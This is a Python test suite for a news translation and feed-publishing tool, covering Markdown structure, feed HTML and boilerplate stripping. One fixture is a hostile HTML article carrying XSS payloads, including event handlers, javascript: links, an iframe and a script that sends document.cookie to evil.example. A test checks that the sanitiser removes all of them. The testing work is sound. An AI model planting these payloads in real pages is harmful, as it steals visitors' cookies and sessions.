"""Markdown and HTML articles end to end with Apertium: structure kept, HTML out, clean."""

from __future__ import annotations

import json
import subprocess
from collections import Counter

import feedparser
import pytest
from click.testing import CliRunner
from markdown_it import MarkdownIt

from syndicate.cli import main
from syndicate.text import markup

from conftest import copy_articles

ISSUE_ARTICLE = """---
title: Council approves new budget
author: Ana Ruiz
date: 2026-11-20T10:00:00Z
---

The city council approved the [new budget](https://example.org/budget?year=2027)
on **Thursday**, after a *long* debate.

## Key points

- Taxes stay the same for families.
- Parks get [two new playgrounds](https://example.org/parks).

"We *will* finish the work before the summer," said Luis Gil, who leads the council.

> The council meets again in March.

---

Read the **full report** on the [council's website](https://example.org/report).
"""

HOSTILE = """<!doctype html><html><head><title>Port strike ends after talks</title>
<meta name="author" content="Mara Olsen">
<meta property="article:published_time" content="2026-11-21T09:00:00Z">
<script>document.cookie</script><style>body{display:none}</style></head>
<body onload="steal()"><article><h1>Port strike ends after talks</h1>
<p>Dock workers returned to work on Friday after the union and the port authority
reached a deal on <a href="javascript:alert(1)">pay</a> and <a href="https://example.org/shifts"
onclick="track()">night shifts</a>.</p>
<p>The agreement raises wages by four percent <img src="x" onerror="alert(1)"> from January,
the union said in a statement.<iframe src="https://evil.example/frame"></iframe></p>
<p>"This is a fair deal for everyone," said union leader Karl Berg.
<a href="data:text/html;base64,PHNjcmlwdD4=">more</a></p>
<script>new Image().src="https://evil.example/?c="+document.cookie</script>
</article></body></html>
"""


def structure(markdown: str) -> Counter:
    """What a Markdown document is made of, and every URL it links to."""
    counts: Counter = Counter()
    for t in MarkdownIt("commonmark").parse(markdown):
        counts[t.type] += t.type.endswith("_open") or t.type == "hr"
        for c in t.children or []:
            if c.type in ("em_open", "strong_open", "link_open", "code_inline", "image"):
                counts[c.type] += 1
            if c.type == "link_open":
                counts["url " + c.attrs["href"]] += 1
    return +counts


def body_of(path) -> str:
    return path.read_text().split("---\n", 2)[2]


@pytest.fixture(scope="module")
def rich(tmp_path_factory):
    """The issue's Markdown article and the two rich samples, into es and fr."""
    from conftest import Run

    base = tmp_path_factory.mktemp("rich")
    inbox = base / "inbox"
    inbox.mkdir()
    (inbox / "budget.md").write_text(ISSUE_ARTICLE)
    copy_articles(inbox, "council-budget.md", "tram-line-opens.html")
    run = Run(base / "out")
    result, data = run(inbox, "--to", "es,fr")
    assert result.exit_code == 0, result.output
    return run, data


@pytest.mark.parametrize("lang", ["es", "fr"])
@pytest.mark.parametrize("slug", ["budget", "council-budget-fares"])
def test_markdown_round_trips_with_its_structure(rich, slug, lang):
    run, data = rich
    folder = run.translations / slug
    source = structure(body_of(folder / "source.md"))
    target = structure(body_of(folder / f"{lang}.md"))
    assert source["link_open"] >= 2 and source["bullet_list_open"] == 1
    assert target == source
    text = body_of(folder / f"{lang}.md")
    assert "## Key" not in text and "## What" not in text  # headings are translated
    (article,) = [a for a in data["articles"] if a["slug"] == slug]
    (t,) = [t for t in article["targets"] if t["lang"] == lang]
    assert t["status"] == "published" and t["fidelity"]["quotes"] == "1/1"


def test_emphasis_inside_a_quotation_goes_on_the_translated_words(rich):
    run, _ = rich
    es = body_of(run.translations / "budget" / "es.md")
    assert "«*Acabaremos* la obra antes del verano»" in es
    # markup never reached the engine as text: every star left is markup, none is a word
    assert not any("*" in markup.plain(b) for b in markup.blocks(es))


def test_feeds_carry_real_html_and_plain_text(rich):
    run, _ = rich
    for name in ["atom.xml", "rss.xml"]:
        parsed = feedparser.parse(run.feeds / "es" / name)
        assert not parsed.bozo
        entry = next(e for e in parsed.entries if "/budget/" in e.id or "budget/es" in e.id)
        content = entry.content[0].value if name == "atom.xml" else entry.description
        if name == "rss.xml":
            content = entry.get("content", [{"value": content}])[0]["value"]
        for element in ['<a href="https://example.org/budget?year=2027"', "<em>", "<strong>"]:
            assert element in content, (name, content)
        for element in ["<h2>", "<ul>", "<li>", "<blockquote>", "<hr"]:
            assert element in content, (name, content)
        assert "](" not in content and "**" not in content
    feed = json.loads((run.feeds / "es" / "feed.json").read_text())
    item = next(i for i in feed["items"] if i["id"].endswith(":budget/es"))
    assert "<h2>" in item["content_html"] and "<strong>" in item["content_html"]
    assert "**" not in item["content_text"] and "](" not in item["content_text"]
    assert "jueves" in item["content_text"] and "<" not in item["content_text"]
    assert item["summary"].startswith("El ayuntamiento aprobó")
    lint = subprocess.run(
        ["xmllint", "--noout", *map(str, run.feeds.glob("*/*.xml"))], capture_output=True
    )
    assert lint.returncode == 0, lint.stderr


def test_desk_numbers_a_quotation_with_markup_once(rich):
    run, _ = rich
    page = (run.translations / "budget" / "index.html").read_text()
    es_section = page[page.index('lang="es"') :]
    row = next(r for r in es_section.split("<tr") if "Acabaremos" in r)
    src, tgt = row.split('class="tgt"')
    assert src.count('data-q="1"') == tgt.count('data-q="1"') == 1 and "*" not in row
    reading = (run.translations / "budget" / "es.html").read_text()
    assert "<em>Acabaremos</em>" in reading and "<h2>" in reading


def test_html_article_is_the_article_not_the_page(rich):
    run, data = rich
    (article,) = [a for a in data["articles"] if a["slug"] == "tram-line-opens"]
    assert article["source_lang"] == "en"
    source = (run.translations / "tram-line-opens" / "source.md").read_text()
    assert "title: New tram line opens to the airport" in source
    assert "byline: By Lucas Moreau" in source
    for boilerplate in ["Subscribe", "Share this article", "Privacy", "Related", "All rights"]:
        assert boilerplate not in source
    s = structure(body_of(run.translations / "tram-line-opens" / "source.md"))
    assert s["heading_open"] == 2  # the headline, "The route"
    assert s["list_item_open"] == 2 and s["strong_open"] == 1
    assert s["url https://transit.example.com/timetables/airport"] == 1
    for lang in ["es", "fr"]:
        assert structure(body_of(run.translations / "tram-line-opens" / f"{lang}.md")) == s
    entry = next(
        e for e in feedparser.parse(run.feeds / "fr" / "atom.xml").entries if "tram" in e.id
    )
    assert entry.author == "Lucas Moreau" and entry.published.startswith("2026-11-24")


def test_hostile_html_article_is_published_clean(run, inbox):
    (inbox / "port.html").write_text(HOSTILE)
    (inbox / "notes.txt").write_text(
        "Budget notes for the week\n"
        "1990. That was the year the port opened, and 5 * 3 [1] <b>cranes</b> came.\n"
        "- A line that starts with a dash stays a line.\n"
    )
    result, data = run(inbox, "--to", "es", "--source-lang", "en")
    assert result.exit_code == 0, result.output
    outputs = [*run.feeds.rglob("*.*"), *run.translations.rglob("*.*")]
    assert len(outputs) > 10
    for path in outputs:
        if path.suffix not in (".xml", ".json", ".html", ".md"):
            continue
        text = path.read_text()
        for bad in ["<script", "onerror", "onclick", "onload", "javascript:", "<iframe", "data:"]:
            assert bad not in text, (path, bad)
        assert "evil.example" not in text and "document.cookie" not in text
    entry = next(
        e for e in feedparser.parse(run.feeds / "es" / "atom.xml").entries if "port" in e.id
    )
    assert '<a href="https://example.org/shifts"' in entry.content[0].value
    assert "Karl Berg" in entry.content[0].value
    notes = next(
        e for e in feedparser.parse(run.feeds / "en" / "atom.xml").entries if "notes" in e.id
    )
    html = notes.content[0].value
    assert "<p>1990. That was" in html and "5 * 3 [1] &lt;b&gt;cranes&lt;/b&gt;" in html
    assert "<ul>" not in html and "<li>" not in html and "<p>- A line" in html


def test_editor_markdown_edit_reaches_the_feed(rich):
    run, _ = rich
    es = run.translations / "council-budget-fares" / "es.md"
    text = es.read_text()
    first = next(line for line in text.splitlines() if line.startswith("El ayuntamiento"))
    es.write_text(text.replace(first, first + " Ver [el acta](https://example.org/acta)."))
    r = CliRunner().invoke(
        main,
        [
            "review",
            "approve",
            "council-budget-fares",
            "es",
            "--translations",
            str(run.translations),
        ],
    )
    assert r.exit_code == 0, r.output
    result, _ = run(run.base.parent / "inbox", "--to", "es,fr")
    assert result.exit_code == 0
    assert "[el acta](https://example.org/acta)" in es.read_text()
    entry = next(
        e for e in feedparser.parse(run.feeds / "es" / "atom.xml").entries if "council" in e.id
    )
    assert '<a href="https://example.org/acta"' in entry.content[0].value
